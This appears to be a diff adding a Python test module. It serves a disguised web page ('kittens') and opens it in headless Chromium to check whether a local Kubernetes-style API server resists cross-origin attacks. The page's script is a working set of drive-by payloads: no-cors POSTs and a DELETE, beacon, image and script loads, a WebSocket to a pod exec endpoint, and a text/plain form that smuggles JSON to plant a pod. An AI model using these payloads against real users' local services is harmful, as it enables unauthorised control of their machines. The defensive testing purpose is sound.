@@ -1,0 +1,132 @@
+"""A web page that attacks an API server on its visitor's machine, and a browser to visit it with."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import shutil
+import signal
+import tempfile
+from collections.abc import AsyncIterator, Sequence
+from contextlib import asynccontextmanager
+from typing import Any
+
+import pytest
+from aiohttp import web
+
+POD = {
+    "apiVersion": "v1",
+    "kind": "Pod",
+    "metadata": {"name": "planted", "namespace": "default"},
+    "spec": {"restartPolicy": "Never", "containers": [{"name": "main", "image": "x", "command": ["true"]}]},
+}
+_SECONDS = 60.0
+_FLAGS = (
+    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
+    "--disable-background-networking", "--disable-component-update", "--disable-dev-shm-usage",
+)  # fmt: skip
+
+# whatever a page may send without the server's consent, and what it may try with it
+PAGE = """
+<!doctype html><title>kittens</title><body><script>
+const api = %(api)s, pod = %(pod)s, pods = api + "/api/v1/namespaces/default/pods";
+const told = {};
+const within = (name, promise) => Promise.race([promise, new Promise(done => setTimeout(done, 8000, "no answer"))])
+  .then(value => told[name] = String(value), error => told[name] = "failed: " + error.name);
+const post = (type, mode) =>
+  fetch(pods, {method: "POST", mode, body: new Blob([pod], {type})}).then(a => a.type + a.status);
+const loaded = (tag, set) => new Promise(done => {
+  const element = document.createElement(tag);
+  element.onload = () => done("loaded"); element.onerror = () => done("failed");
+  set(element); document.body.append(element);
+});
+const socket = () => new Promise(done => {
+  const found = new WebSocket(pods.replace("http", "ws") + "/planted/exec");
+  found.onopen = () => done("open"); found.onerror = () => done("failed");
+});
+const events = () => new Promise(done => {
+  const found = new EventSource(pods + "?watch=true");
+  found.onmessage = found.onopen = () => done("open"); found.onerror = () => { found.close(); done("failed"); };
+});
+const form = () => loaded("iframe", frame => {
+  frame.name = "f";
+  setTimeout(() => {
+    const form = document.createElement("form");
+    Object.assign(form, {method: "post", action: pods, target: "f", enctype: "text/plain"});
+    const input = document.createElement("input");
+    input.name = pod.slice(0, -1) + ',"x":"'; input.value = '"}';
+    form.append(input); document.body.append(form); form.submit();
+  });
+});
+Promise.all([
+  within("untyped blob", post("", "no-cors")),
+  within("text", post("text/plain", "no-cors")),
+  within("json", post("application/json", "cors")),
+  within("yaml", post("application/yaml", "no-cors")),
+  within("delete", fetch(pods, {method: "DELETE", mode: "cors"}).then(a => a.type + a.status)),
+  within("read", fetch(pods, {mode: "cors"}).then(a => a.text())),
+  within("beacon", Promise.resolve(navigator.sendBeacon(pods, new Blob([pod])))),
+  within("image", loaded("img", image => image.src = pods)),
+  within("script", loaded("script", script => script.src = pods)),
+  within("socket", socket()),
+  within("events", events()),
+  within("form", form()),
+]).then(() => fetch("/told", {method: "POST", body: JSON.stringify(told)}));
+</script>
+"""
+
+
+def chromium() -> str:
+    """The browser's program; the test is skipped where there is none."""
+    found = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+    if found is None:
+        pytest.skip("web pages are not tested: there is no Chromium; install the package chromium")
+    return found
+
+
+async def visit(api: str, *flags: str) -> dict[str, str]:
+    """Open the page in a browser.
+
+    Args:
+        api: URL of the server that the page attacks.
+        *flags: of the browser.
+
+    Returns:
+        What the page saw of each of its attacks.
+    """
+    told: asyncio.Future[dict[str, str]] = asyncio.get_running_loop().create_future()
+
+    async def serve(request: web.BaseRequest) -> web.Response:
+        if request.path == "/told":
+            told.set_result(json.loads(await request.text()))
+            return web.Response()
+        if request.path != "/":
+            return web.Response(status=404)
+        page = PAGE % {"api": json.dumps(api), "pod": json.dumps(json.dumps(POD))}
+        return web.Response(text=page, content_type="text/html")
+
+    runner = web.ServerRunner(web.Server(serve), shutdown_timeout=0.1)
+    await runner.setup()
+    try:
+        await web.TCPSite(runner, "127.0.0.1", 0).start()
+        async with browsing(f"http://127.0.0.1:{runner.addresses[0][1]}/", flags), asyncio.timeout(_SECONDS):
+            return await told
+    finally:
+        await runner.cleanup()
+
+
+@asynccontextmanager
+async def browsing(url: str, flags: Sequence[str] = ()) -> AsyncIterator[Any]:
+    """A browser with a new profile that opens a page, for as long as the block lasts."""
+    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
+        process = await asyncio.create_subprocess_exec(
+            chromium(), *_FLAGS, *flags, f"--user-data-dir={profile}", "--remote-debugging-port=0", url,
+            stdin=asyncio.subprocess.DEVNULL, stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.DEVNULL,
+            start_new_session=True,
+        )  # fmt: skip
+        try:
+            yield process
+        finally:
+            os.killpg(process.pid, signal.SIGKILL)
+            await process.wait()
